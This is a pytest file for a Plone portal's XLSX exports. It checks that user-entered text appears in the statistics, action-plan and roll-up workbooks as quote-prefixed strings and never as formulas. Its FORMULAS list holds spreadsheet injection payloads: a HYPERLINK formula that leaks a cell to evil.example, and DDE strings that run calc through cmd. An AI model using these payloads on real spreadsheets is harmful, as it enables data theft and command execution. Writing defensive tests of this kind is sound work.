"""Item 9 of issue 11: text from users is never a formula in a workbook.

Every XLSX the portal writes (usage statistics, roll-up, action plan) is
fetched over HTTP after users have written text that Excel would run:
each such cell must be a string with Excel's quote prefix, and a NUL byte
must not break the file.
"""

from io import BytesIO
from openpyxl import load_workbook
from plone import api
import pytest
from tests.helpers import rest_url
import transaction


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(content):
    """Every cell of the workbook holding one of FORMULAS (with its type)."""
    book = load_workbook(BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    found.append(cell)
    return found


def assert_all_text(content, expected):
    cells = formula_cells(content)
    values = {cell.value for cell in cells}
    for text in expected:
        assert text in values, (text, values)
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix, (cell.coordinate, cell.value)


def test_usage_statistics_xlsx(demo_portal, http):
    feelgood = demo_portal["avtal"]["feelgood"]
    rows = "".join(
        f"2026-0{n + 1};{text};förebyggande;grupp;Tjänst {text};{n + 1}00;1\n"
        for n, text in enumerate(FORMULAS[:4])
    )
    csv = "manad;avdelning;typ;niva;tjanst;belopp;besok\n" + rows
    hr = http("hr")
    imported = hr.post(rest_url(feelgood, "/@anvandning"), json={"ar": 2026, "csv": csv})
    assert imported.status_code == 200, imported.text
    response = hr.get(feelgood.absolute_url() + "/@@statistik.xlsx", params={"ar": "2026"})
    assert response.status_code == 200
    assert_all_text(response.content, FORMULAS[:4])


@pytest.fixture
def followup_texts(demo_portal):
    """A unit's action and a submitted analysis holding formulas and a NUL
    byte (stored before the input checks existed)."""
    root = demo_portal["uppfoljning"]["kulturforvaltningen"]
    jarva = root["stadsbiblioteket"]["jarva"]["2026-sam"]
    with api.env.adopt_roles(["Manager"]):
        api.content.create(
            container=jarva,
            type="Atgard",
            id="formel",
            title=FORMULAS[0],
            responsible=FORMULAS[3],
            description=FORMULAS[1],
            outcome=FORMULAS[2] + "\x00",
        )
        first = jarva.checklist().question_ids()[0]
        jarva.answers[first] = {"svar": jarva.answers[first]["svar"], "analys": FORMULAS[0]}
        jarva.reindexObject()
    transaction.commit()
    return root


def test_action_plan_xlsx(followup_texts, http):
    response = http("hr").get(
        followup_texts.absolute_url() + "/@@handlingsplan.xlsx",
        params={"ar": "2026", "underliggande": "1"},
    )
    assert response.status_code == 200
    assert_all_text(response.content, [FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[3]])


def test_rollup_xlsx(followup_texts, http):
    response = http("hr").get(followup_texts.absolute_url() + "/@@sammanstallning.xlsx")
    assert response.status_code == 200
    assert_all_text(response.content, [FORMULAS[0]])
